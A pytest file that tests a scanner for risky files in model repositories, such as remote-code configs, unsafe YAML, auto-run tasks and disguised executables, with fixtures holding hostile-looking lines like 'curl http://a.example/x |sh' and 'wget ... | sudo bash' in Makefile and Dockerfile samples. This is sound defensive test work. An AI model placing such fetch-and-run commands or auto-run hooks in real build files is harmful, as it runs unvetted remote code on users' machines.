"""Text, pictures, executables and what nobody recognises."""

import pytest

CASES = [
    ("config.json", b'{"auto_map": {"AutoModel": "x.Y"}}', {"ART-301", "ART-660"}),
    ("config.json", b'{"text": {"trust_remote_code": true}}', {"ART-301"}),
    ("config.json", b'{"trust_remote_code": false}', set()),
    ("config.json", b'{"_attn_implementation_internal": "a/b"}', {"ART-301"}),
    ("config.json", b'{"a": 1, "a": 2}', {"ART-307"}),
    ("config.json", b'{"a": 1', {"gap"}),
    ("c.yaml", b"a: !!python/object/apply:os.getcwd []\n", {"ART-302"}),
    ("c.yaml", b"a: !thing 1\n", {"ART-302"}),
    ("c.yaml", b"model:\n  _target_: os.getcwd\n", {"ART-303"}),
    ("c.yaml", b"model:\n  _component_: subprocess.check_call\n", {"ART-303"}),
    ("c.yaml", b"model:\n  target: evil.module.Net\n  params: {}\n", {"ART-303"}),
    ("c.yaml", b"target: os.system\n", {"ART-303"}),
    ("c.yaml", b"data:\n  class_path: project.Data\n  init_args: {}\n", {"ART-303"}),
    ("c.yaml", b"a:\n  anything: subprocess.Popen\n", {"ART-303"}),
    ("c.json", b'{"a": [{"b": ["os.system"]}]}', {"ART-303"}),
    ("config.json", b'{"activation_function": "os.abort"}', {"ART-303"}),
    ("config.json", b'{"default_activation_fn": "evil.module.f"}', {"ART-303"}),
    ("config.json", b'{"attn_implementation": "owner/kernel"}', {"ART-301"}),
    ("config.json", b'{"text": {"_attn_implementation": "paged|owner/kernel@v1:f"}}', {"ART-301"}),
    ("config.json", b'{"attn_implementation": "flash_attention_2", "activation_function": "gelu_new"}', set()),
    ("config.json", b'{"activation_function": "torch.nn.modules.activation.Tanh"}', set()),
    ("c.yaml", b"target: nemo.collections.asr.models.EncDecCTCModel\n", set()),
    ("c.yaml", b"target: ldm.models.diffusion.ddpm.LatentDiffusion\nparams: {}\n", set()),
    ("c.yaml", b"_component_: torchtune.models.llama3.llama3_8b\n", set()),
    ("c.yaml", b"target: example.com\nfile: weights.bin\nhost: os.example.org\ntarget_column: a.b\n", set()),
    ("c.yaml", b"_target_: torch.hub.load\n", {"ART-303"}),
    ("c.yaml", b"_target_: torch.nn.modules.load\n", {"ART-303"}),
    ("Makefile", b"all:\n\tcurl http://a.example/x |sh\n", {"ART-315"}),
    ("Dockerfile", b"FROM x\nRUN wget -qO- http://a.example/x \\\n  | sudo bash\n", {"ART-315"}),
    ("Dockerfile.gpu", b"FROM x\nRUN bash <(curl -s http://a.example)\n", {"ART-315"}),
    ("Makefile", b"all:\n\tcurl -o x.tgz http://a.example/x && sha256sum -c x.sum\n", set()),
    ("Dockerfile", b"FROM x\nRUN pip install y | tee log\n", set()),
    ("tasks.json", b'{"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}', {"ART-315"}),
    ("tasks.json", b'{"tasks": [{"command": "x"}]}', set()),
    ("devcontainer.json", b'{"initializeCommand": "x"}', {"ART-315"}),
    ("package.json", b'{"scripts": {"postinstall": "x"}}', {"ART-315"}),
    ("package.json", b'{"scripts": {"test": "x"}}', set()),
    ("c.yaml", b"a: 1\na: 2\n", {"ART-307"}),
    ("c.yaml", b"a: [1\n", {"gap"}),
    ("model.safetensors", b"version https://git-lfs.github.com/spec/v1\noid sha256:0\n", {"ART-304"}),
    ("model.bin", b"", {"ART-305"}),
    ("__init__.py", b"", set()),
    ("notes.txt", b"", set()),
    ("lib.so", b"\x7fELF\x02\x01\x01" + bytes(60), {"ART-308"}),
    ("model.bin", b"#!/bin/sh\ntrue\n", {"ART-308"}),
    ("a.exe", b"MZ" + bytes(80), {"ART-308"}),
    ("model.gguf", b"GGUF\x03\0\0\0", {"gap"}),
    ("model.h5", b"\x89HDF\r\n\x1a\n" + bytes(20), {"gap"}),
    ("model.onnx", b"\x08\x07\x12\x04test", {"gap"}),
    ("blob", b"\xfe\xfe\xfe\xfe", {"gap"}),
    ("notes.txt", b"a\0b", {"ART-306", "gap"}),
    ("notes.md", b"# Title\n\nPlain words.\n", set()),
    ("table.csv", b"a,b\n1,2\n", set()),
    ("weights.npy", b'{"a": 1}', {"ART-306"}),
]


@pytest.mark.parametrize(("name", "data", "expected"), CASES)
def test_texts_and_others(name, data, expected, rules):
    assert rules(name, data) == expected


def png(tail=b""):
    import struct
    import zlib

    def chunk(kind, body):
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    head = struct.pack(">LLBBBBB", 1, 1, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0\0")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"") + tail


def test_pictures_end_where_they_say(rules):
    assert rules("a.png", png()) == set()
    assert rules("a.png", png(b"more")) == {"ART-309"}
    assert rules("a.png", png()[:-4]) == {"gap"}
